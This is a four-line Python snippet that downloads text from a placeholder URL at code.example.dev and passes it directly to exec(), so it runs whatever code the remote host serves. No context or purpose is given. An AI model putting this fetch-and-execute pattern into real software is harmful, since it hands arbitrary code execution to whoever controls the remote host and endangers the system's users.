import requests

answer = requests.get("https://code.example.dev/x")
source = answer.text
exec(source)
